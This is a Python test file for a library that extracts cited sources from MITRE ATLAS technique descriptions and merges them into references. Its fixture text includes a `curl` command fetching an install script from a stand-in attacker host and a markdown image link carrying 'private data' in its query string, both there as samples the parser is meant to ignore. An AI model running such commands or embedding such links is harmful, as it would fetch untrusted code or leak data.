"""Sources cited inside upstream prose become references, in the bundled data and on import."""

from __future__ import annotations

import re

import pytest

from advmatrix.kb import atlas_yaml
from advmatrix.kb._citations import cited_references, merge_references
from advmatrix.kb._models import Reference

TEXT = """\
Voices are cloned [\\[1\\]][valle] and used in vishing [\\[2\\]][vishing]; see also
[ATT&CK]( https://attack.mitre.org/techniques/T1583/001/) and <https://example.org/bare>.
A second use of [\\[1\\]][valle] adds nothing. An [uncited][spare] label is ignored.

```
![ATLAS](https://atlas.mitre.org/image.png?secrets="private data")
```
Inline code such as `curl https://evil.example/install.sh` is an example, not a source.

[vishing]: https://www.social-engineer.org/framework/attack-vectors/vishing/ "Vishing - Social-Engineer Framework"
[valle]: https://www.microsoft.com/en-us/research/project/vall-e-x/ "VALL-E Family"
[unused]: https://arxiv.org/abs/2407.04295
"""


def test_citations_in_order_of_first_use_with_their_titles():
    assert cited_references(TEXT) == (
        Reference(title="VALL-E Family", url="https://www.microsoft.com/en-us/research/project/vall-e-x/"),
        Reference(title="Vishing - Social-Engineer Framework",
                  url="https://www.social-engineer.org/framework/attack-vectors/vishing/"),
        Reference(title="ATT&CK", url="https://attack.mitre.org/techniques/T1583/001/"),
        Reference(url="https://example.org/bare"),
        Reference(url="https://arxiv.org/abs/2407.04295"),  # defined but never cited: still a source
    )


@pytest.mark.parametrize("text", ["", None, "No links, and a [relative one](/techniques/AML.T0043)."])
def test_no_citations(text):
    assert cited_references(text) == ()


def test_a_bare_number_is_not_a_title():
    assert cited_references("as shown [\\[3\\]](https://a.example/x).") == (Reference(url="https://a.example/x"),)


def test_merge_keeps_the_first_of_each_address():
    a = Reference(title="listed", url="https://a.example/")
    assert merge_references([a], [Reference(title="cited", url="https://a.example/"),
                                  Reference(url="https://b.example/")]) == (a, Reference(url="https://b.example/"))


def test_import_adds_cited_sources_after_the_listed_ones():
    text = """\
id: ATLAS
name: ATLAS
version: 9.9.9
tactics:
- {id: AML.TA0001, name: Staging, object-type: tactic,
   description: "Like [Remote System Discovery](https://attack.mitre.org/techniques/T1018/)."}
techniques:
- id: AML.T0043
  name: Craft Adversarial Data
  object-type: technique
  tactics: [AML.TA0001]
  references: [{title: Listed, url: 'https://listed.example/'}]
  description: |
    See [\\[1\\]][a] and [again](https://listed.example/).

    [a]: https://cited.example/ "Cited"
mitigations:
- {id: AML.M0003, name: Hardening, object-type: mitigation, description: "Per <https://m.example/>."}
case-studies: []
"""
    m = atlas_yaml.loads(text)
    assert m.technique("AML.T0043").references == (Reference(title="Listed", url="https://listed.example/"),
                                                   Reference(title="Cited", url="https://cited.example/"))
    assert m.tactic("AML.TA0001").references == (
        Reference(title="Remote System Discovery", url="https://attack.mitre.org/techniques/T1018/"),)
    assert m.mitigation("AML.M0003").references == (Reference(url="https://m.example/"),)
    assert atlas_yaml.loads(atlas_yaml.dumps(m)) == m


# -- against the real release: an independent, cruder reading of the same prose -----------------
_CODE = re.compile(r"```.*?```|`[^`\n]*`", re.S)
_URL = re.compile(r"https?://[^\s)\]>\"'`]+")


def _urls(text: str) -> set[str]:
    return {u.rstrip(".,;:") for u in _URL.findall(_CODE.sub(" ", text or ""))}


def _upstream_texts(raw: dict):
    for matrix in raw["matrices"]:
        for kind in ("tactics", "techniques", "mitigations"):
            for obj in matrix.get(kind) or ():
                yield obj["id"], obj["description"]
    for cs in raw["case-studies"]:
        yield cs["id"], "\n".join([cs["summary"], *(s.get("description", "") for s in cs["procedure"])])


@pytest.fixture(scope="module")
def raw_560(atlas_560):
    import yaml
    return yaml.safe_load(atlas_560.read_text(encoding="utf-8"))


def test_every_source_cited_upstream_is_a_reference_of_ours(matrix, atlas_560, raw_560):
    upstream = atlas_yaml.load(atlas_560)
    cited = {oid: _urls(text) for oid, text in _upstream_texts(raw_560)}
    cited = {oid: urls for oid, urls in cited.items() if urls}
    assert len(cited) >= 38 and sum(map(len, cited.values())) >= 102  # the counts the issue gives
    for source in (matrix, upstream):
        missing = {oid: urls - {r.url for r in source.get(oid).references} for oid, urls in cited.items()}
        assert {oid: urls for oid, urls in missing.items() if urls} == {}


@pytest.mark.parametrize("object_id, count", [("AML.T0052.001", 16), ("AML.T0054", 13)])
def test_issue_examples_keep_every_source_with_its_upstream_title(matrix, raw_560, object_id, count):
    text = next(t["description"] for m in raw_560["matrices"] for t in m["techniques"] if t["id"] == object_id)
    definitions = dict(re.findall(r'^\[[^\]]+\]: (\S+) "([^"]*)"$', text, re.M))
    refs = matrix.technique(object_id).references
    assert len(refs) == len(definitions) == count
    assert {r.url: r.title for r in refs} == definitions
